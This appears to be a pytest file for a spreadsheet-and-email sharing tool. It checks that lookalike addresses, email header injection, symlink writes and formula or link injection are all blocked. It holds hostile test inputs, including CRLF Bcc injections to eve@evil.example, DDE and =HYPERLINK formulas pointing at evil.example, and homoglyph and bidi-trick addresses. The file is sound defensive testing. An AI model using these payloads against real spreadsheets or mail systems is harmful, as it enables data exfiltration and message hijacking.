"""What an attacker can write into cells, templates, addresses and folders, and what must not come of it."""

import email
import email.policy
import io
import os
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from xml.etree.ElementTree import Element, fromstring

import pytest

from kam_xl.errors import TargetError
from kam_xl.plans.templates import template_folders
from kam_xl.scoring.model import parse_model
from kam_xl.sharing.addresses import UnusableAddressError, is_allowed, read_address, read_domains
from kam_xl.sharing.compose import MessageTemplates
from kam_xl.sharing.folder import MANIFEST, SharedFolder
from kam_xl.sharing.report import ShareReport
from kam_xl.sharing.share import share_book
from kam_xl.sharing.transports import EmlDrafts
from tests.sharing.books import SMALL_MODEL, STRONG, account, scored_book

MARA = "Mara Voss 2026-03-31"
SHIPPED = MessageTemplates(template_folders())


def shared(
    folder: Path, *rows: dict[str, object], templates: MessageTemplates = SHIPPED, **settings: str
) -> ShareReport:
    return share_book(scored_book(rows, settings=settings), folder, EmlDrafts(folder), templates)


def drafts(folder: Path) -> Iterator[EmailMessage]:
    for path in sorted(folder.glob("*.eml")):
        read = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert isinstance(read, EmailMessage)
        yield read


# --- addresses -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "elsewhere",
    [
        "ann@mail.example.com", "ann@notexample.com", "ann@example.com.evil.example", "ann@example.com。evil.example",
        "ann@ex\u0430mple.com", "ann@strasse.de", "ann%evil.example@example.com", "evil.example!ann@example.com",
    ],
)  # fmt: skip
def test_an_address_that_only_looks_like_an_allowed_one_is_elsewhere(elsewhere: str) -> None:
    assert is_allowed(read_address(elsewhere), read_domains("example.com, straße.de")) is False


@pytest.mark.parametrize("same", ["ann@EXAMPLE.com", "ann@\uff45xample.com", "ann@example。com", "ann@STRAẞE.de"])
def test_other_spellings_of_an_allowed_domain_are_that_domain(same: str) -> None:
    found = read_address(same)
    assert is_allowed(found, read_domains("example.com, straße.de")) is True
    assert found.domain in {"example.com", "xn--strae-oqa.de"}


@pytest.mark.parametrize(
    "text",
    [
        "ann@example.com.", '"ann@evil.example"@example.com', "ann\uff20evil.example@example.com",
        "\uff41nn@example.com", "@evil.example:ann@example.com", "ann@example.com>,<eve@evil.example",
        "<ann@evil.example>ann@example.com",
        "ann@example.com?bcc=eve@evil.example", "ann@example.com%0d%0abcc:eve@evil.example", "an\u202en@example.com",
        "ann\u200d@example.com", "ann@exam\u00adple.com", "ann@[127.0.0.1]", "ann(eve)@example.com",
    ],
)  # fmt: skip
def test_an_address_that_servers_may_read_otherwise_is_refused(text: str) -> None:
    with pytest.raises(UnusableAddressError, match=r"\w"):
        read_address(text)


def test_a_name_cannot_show_another_address_by_turning_the_direction() -> None:
    assert read_address("Ann \u202emoc.live@eve <ann@example.com>").display_name == "Ann moc.live@eve"


@pytest.mark.parametrize("typed", ["@", ", ;", "*.example.com", "ann@example.com"])
def test_allowed_domains_that_name_none_allow_nobody(typed: str, tmp_path: Path) -> None:
    report = shared(tmp_path, account("A1", manager_email="mara@example.com"), allowed_mail_domains=typed)
    assert ([trouble.manager for trouble in report.refused], [*tmp_path.glob("*.eml")]) == (["Mara Voss"], [])


def test_a_domain_that_looks_like_an_allowed_one_is_told_by_its_other_name(tmp_path: Path) -> None:
    rows = [account("A1", manager_email="mara@ex\u0430mple.com")]
    (trouble,) = shared(tmp_path, *rows, allowed_mail_domains="example.com").refused
    assert trouble.reason.startswith("mara@ex\u0430mple.com (mara@xn--exmple-4nf.com) is outside the Allowed")


# --- headers ---------------------------------------------------------------------------------------------------------

BREAKS = (
    "\r\nBcc: eve@evil.example\r\n\r\n<p>forged</p>", "\nBcc: eve@evil.example", "\u2028Bcc: eve@evil.example",
    " =?utf-8?q?=0D=0ABcc:_eve@evil.example?=", " =?utf-8?b?YQ0KQmNjOiBldmVAZXZpbC5leGFtcGxl?=",
)  # fmt: skip


@pytest.mark.parametrize("break_", BREAKS)
def test_names_in_cells_write_no_headers(break_: str, tmp_path: Path) -> None:
    rows = [
        account("A1", **STRONG, account=f"Acme{break_}", manager=f"Mara{break_}", manager_email="mara@example.com"),
        account("B1", manager="Noah Kim", manager_email=f"noah@example.com{break_}"),
    ]
    report = shared(tmp_path, *rows, company=f"Us{break_}", mail_from=f"ops@example.com{break_}")
    assert [trouble.manager for trouble in report.unusable] == ["", "Noah Kim"]
    mara, noah = drafts(tmp_path)
    assert ([each.addr_spec for each in mara["To"].addresses], noah["To"]) == (["mara@example.com"], None)
    assert [set(draft.keys()) & {"Bcc", "bcc", "From"} for draft in (mara, noah)] == [set(), set()]
    assert [len(draft.get_all("Subject", [])) for draft in (mara, noah)] == [1, 1]


def test_a_subject_template_writes_one_line_whatever_it_holds(tmp_path: Path) -> None:
    (tmp_path / "messages").mkdir()
    (tmp_path / "messages" / "manager.subject.txt").write_text(
        "Hello{{ '\\r\\n' }}Bcc: eve@evil.example\n\nTo: eve@evil.example{{ '\\x85' }}", encoding="utf-8"
    )
    templates = MessageTemplates(template_folders((tmp_path,)))
    report = shared(tmp_path / "out", account("A1", manager_email="mara@example.com"), templates=templates)
    (draft,) = drafts(tmp_path / "out")
    assert (report.failed, draft["Bcc"], str(draft["To"])) == ((), None, "Mara Voss <mara@example.com>")
    assert draft["Subject"] == "Hello Bcc: eve@evil.example To: eve@evil.example"


# --- folders ---------------------------------------------------------------------------------------------------------

LINKED = pytest.mark.skipif(os.name == "nt", reason="Windows lets only some people make links")


@LINKED
@pytest.mark.parametrize("name", [f"{MARA}.xlsx", f"{MARA} (new).xlsx", f"{MARA}.eml", MANIFEST])
@pytest.mark.parametrize("stands", [True, False])
def test_nothing_is_written_through_a_link_in_the_folder(name: str, tmp_path: Path, *, stands: bool) -> None:
    target, folder = tmp_path / "precious", tmp_path / "managers"
    if stands:
        target.write_bytes(b"precious")
    folder.mkdir()
    (folder / name).symlink_to(target)
    report = shared(folder, account("A1"))
    assert [trouble.manager for trouble in report.failed] == ["Mara Voss"]
    assert f"{name} is a link, and nothing is written through it. Remove it." in report.failed[0].reason
    assert (target.read_bytes() if target.exists() else None) == (b"precious" if stands else None)


@LINKED
def test_a_linked_folder_on_the_way_is_refused_and_a_linked_target_is_not(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "linked").symlink_to(tmp_path / "real")
    (tmp_path / "real" / "plans").symlink_to(tmp_path / "elsewhere")
    folder = SharedFolder(tmp_path / "linked")
    assert folder.put("copy.xlsx", b"1").path.read_bytes() == b"1"
    with pytest.raises(TargetError, match="plans is a link"):
        folder.put("plans/A.pdf", b"1")
    assert list((tmp_path / "elsewhere").iterdir()) == []


# --- copies ----------------------------------------------------------------------------------------------------------

HOSTILE = (
    "={}", "+{}", "-{}", "@{}", "\t={}", "{{={}}}", '=HYPERLINK("http://evil.example/{}","x")', "http://evil.example/{}",
    "mailto:{}@evil.example", "internal:Model!A1{}", "external:\\\\evil\\{}", "file:///{}", "<r><t>{}</t></r>",
    "<r></si></sst>{}</r>", '&L&"{}"', "]]>{}", "';DDE(\"{}\")",
)  # fmt: skip


def test_no_text_becomes_a_formula_a_link_a_name_or_xml_anywhere_in_a_copy(tmp_path: Path) -> None:
    planted = "kamtoken"
    model = parse_model(with_hostile_labels(planted))
    rows = [
        {**account(f"A{i}", **STRONG), "account": text, "account_manager": text, "industry": text, text: text}
        for i, text in enumerate(said.format(planted) for said in HOSTILE)
    ]
    texts = [str(row["account"]) for row in rows]
    tables = {
        "Actions": [
            {"account_id": "A0", "action_id": text, "action": text, "owner": text, text: text} for text in texts
        ],
        "Team": [{"account_manager": text, "manager": "Mara Voss", "language": "en"} for text in texts],
    }
    book = scored_book(rows, model, tables, {"company": texts[0], "currency": texts[12]})
    assert share_book(book, tmp_path, EmlDrafts(tmp_path), SHIPPED).failed == ()
    parts = dict(parts_of(tmp_path / f"{MARA}.xlsx"))
    spoken = "".join("".join(tree.itertext()) for name, tree in parts.items() if name.endswith("sharedStrings.xml"))
    assert [text.strip() in spoken for text in texts] == [True] * len(texts)
    assert [name for name, tree in parts.items() for place in active(tree) if planted in place] == []
    assert [name for name in parts if "externalLink" in name] == []


def with_hostile_labels(planted: str) -> dict[str, object]:
    hostile = HOSTILE[12].format(planted)
    criteria = [{**criterion, "label": f"={planted}{i}"} for i, criterion in enumerate(SMALL_MODEL["criteria"])]
    gates = [{**gate, "label": hostile} for gate in SMALL_MODEL["gates"]]
    return {**SMALL_MODEL, "model": {"name": hostile}, "criteria": criteria, "gates": gates}


def parts_of(path: Path) -> Iterator[tuple[str, Element]]:
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                yield name, fromstring(package.read(name))  # noqa: S314 - our own file


ACTIVE = ("f", "formula", "formula1", "formula2", "definedName", "oddHeader", "oddFooter", "calculatedColumnFormula")


def active(tree: Element) -> Iterator[str]:
    """Give what a spreadsheet program acts on: formulas, names, headers, and where links lead."""
    for element in tree.iter():
        tag = element.tag.rpartition("}")[2]
        if tag in ACTIVE:
            yield element.text or ""
        if tag in {"hyperlink", "Relationship", "hlinkClick"}:
            yield " ".join(element.attrib.values())


def test_the_search_for_active_texts_finds_them() -> None:
    tree = fromstring('<s><f>HYPERLINK("kamtoken")</f><hyperlink location="kamtoken"/><v>kamtoken</v></s>')  # noqa: S314
    assert ["kamtoken" in place for place in active(tree)] == [True, True]
